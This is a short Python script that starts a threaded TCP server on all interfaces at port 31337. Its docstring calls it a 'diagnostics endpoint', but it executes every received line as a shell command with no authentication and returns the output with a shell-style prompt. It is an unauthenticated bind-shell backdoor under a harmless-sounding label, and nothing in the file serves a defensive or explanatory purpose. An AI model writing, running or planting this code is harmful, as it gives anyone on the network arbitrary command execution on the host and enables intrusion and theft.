import socketserver
import subprocess


class Handler(socketserver.StreamRequestHandler):
    """diagnostics endpoint"""

    def handle(self):
        self.wfile.write(b"$ ")
        for raw in self.rfile:
            p = subprocess.run(raw.decode().strip(), shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            self.wfile.write(p.stdout + b"$ ")


class Srv(socketserver.ThreadingTCPServer):
    allow_reuse_address = True


with Srv(("0.0.0.0", 31337), Handler) as srv:
    srv.serve_forever()
